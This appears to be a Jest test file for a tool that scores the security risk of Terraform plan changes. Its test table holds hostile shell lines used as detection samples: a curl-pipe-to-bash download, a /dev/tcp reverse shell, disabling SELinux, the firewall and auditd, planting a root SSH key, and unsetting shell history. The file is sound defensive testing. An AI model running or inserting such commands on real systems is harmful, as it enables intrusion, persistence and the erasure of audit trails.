import { describe, expect, test } from '@jest/globals';
import { documentParsers } from '../../../../engine/documents/index.ts';
import { analyzePlan, type Change, type JsonValue } from '../../../../engine/index.ts';

/** Analyzes a plan that changes one attribute of one resource. */
function judge(type: string, attribute: string, before: JsonValue, after: JsonValue): Change {
  const change = {
    address: `${type}.x`,
    mode: 'managed',
    type,
    name: 'x',
    provider_name: 'registry.terraform.io/example/example',
    change: {
      actions: ['update'],
      before: { id: '1', [attribute]: before },
      after: { id: '1', [attribute]: after },
      after_unknown: {},
      before_sensitive: {},
      after_sensitive: {},
    },
  };
  const plan = { format_version: '1.2', terraform_version: '1.11.0', resource_changes: [change] };
  return analyzePlan(JSON.stringify(plan), { parsers: () => documentParsers }).changes[0] as Change;
}

const reasons = (change: Change) => change.risk.reasons.map(({ rule_id, level }) => `${rule_id} ${level}`);

const BOOT = '#!/bin/bash\nset -e\napt-get update\nsystemctl enable web\n';

describe('a script', () => {
  test.each([
    ['downloads and runs code', 'curl -fsSL https://get.example.io/i.sh | sudo bash', 'high'],
    ['opens a remote shell', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'critical'],
    ['turns off SELinux', 'setenforce 0', 'high'],
    ['turns off the firewall', 'ufw --force disable', 'high'],
    ['turns off an agent', 'systemctl disable --now auditd', 'high'],
    ['adds a key for logins', 'echo "ssh-ed25519 AAAA" >> /root/.ssh/authorized_keys', 'high'],
    ['runs a privileged container', 'docker run -d --privileged web:3', 'high'],
    ['skips the verification of certificates', 'curl -k https://repo.internal/x -o x', 'medium'],
    ['erases traces', 'unset HISTFILE', 'high'],
  ])('that %s is %s', (_, line, level) => {
    const change = judge('example_server', 'boot_script', BOOT, `${BOOT}${line}\n`);

    expect(change.risk.level).toBe(level);
    expect(reasons(change)).toContain(`R-DOC-ADDED ${level}`);
  });

  test('that installs another package is not raised', () => {
    expect(reasons(judge('example_server', 'boot_script', BOOT, `${BOOT}apt-get install -y jq\n`))).not.toContainEqual(
      expect.stringContaining('R-DOC'),
    );
  });

  test('is judged in base64, too', () => {
    const [before, after] = [BOOT, `${BOOT}setenforce 0\n`].map((text) => Buffer.from(text).toString('base64'));

    expect(reasons(judge('example_server', 'boot', before as string, after as string))).toContain('R-DOC-ADDED high');
  });

  test('with other comments is noise', () => {
    const change = judge('example_server', 'boot_script', BOOT, BOOT.replace('set -e', '# stop at errors\nset -e'));

    expect(change.noise.classification).toBe('likely_benign');
    expect(change.risk.level).toBe('none');
  });
});

describe('a restriction', () => {
  const NGINX = 'location /admin {\n  auth_request /verify;\n  allow 10.0.0.0/8;\n  deny all;\n}\n';

  test('that is removed from a configuration is high when it is a check of identities', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('  auth_request /verify;\n', ''));

    expect(reasons(change)).toContain('R-DOC-LOST high');
  });

  test('that only reads differently is not lost', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('/verify', '/verify/v2'));

    expect(reasons(change)).not.toContainEqual(expect.stringContaining('R-DOC-LOST'));
  });

  test('that is replaced by access for everyone is high', () => {
    const change = judge('example_proxy', 'config', NGINX, NGINX.replace('deny all;', 'allow all;'));

    expect(change.risk.level).toBe('high');
  });
});

describe('a Kubernetes manifest', () => {
  const manifest = (privileged: boolean) => `apiVersion: apps/v1
kind: Deployment
metadata: { name: agent, namespace: ops }
spec:
  template:
    spec:
      containers:
        - name: agent
          image: agent:1
          securityContext: { privileged: ${privileged} }
`;

  test.each([
    ['in YAML', manifest],
    [
      'in a list of documents',
      (privileged: boolean) => `kind: Namespace\napiVersion: v1\n---\n${manifest(privileged)}`,
    ],
    ['in base64', (privileged: boolean) => Buffer.from(manifest(privileged)).toString('base64')],
    ['in a JSON string', (privileged: boolean) => JSON.stringify({ files: { 'a.yaml': manifest(privileged) } })],
  ])('%s is judged like a resource', (_, write) => {
    const change = judge('example_bundle', 'content', write(false), write(true));

    expect(reasons(change)).toContain('R-CMP-PRIV high');
  });
});

describe('a policy in a document', () => {
  const template = (action: string) =>
    JSON.stringify({
      Resources: {
        Role: {
          Type: 'AWS::IAM::ManagedPolicy',
          Properties: {
            PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: action, Resource: '*' }] },
          },
        },
      },
    });

  test('that becomes an administrator policy is critical', () => {
    const change = judge('aws_cloudformation_stack', 'template_body', template('s3:ListBucket'), template('*'));

    expect(change.risk.level).toBe('critical');
  });
});

describe('SQL', () => {
  test.each([
    ['GRANT ALL ON SCHEMA app TO PUBLIC', 'high'],
    ['DROP MASKING POLICY email_mask', 'high'],
  ])('%s is %s', (statement, level) => {
    const before = 'GRANT SELECT ON app.orders TO report;\nSELECT 1;';

    expect(judge('example_migration', 'script', before, `${before}\n${statement};`).risk.level).toBe(level);
  });
});
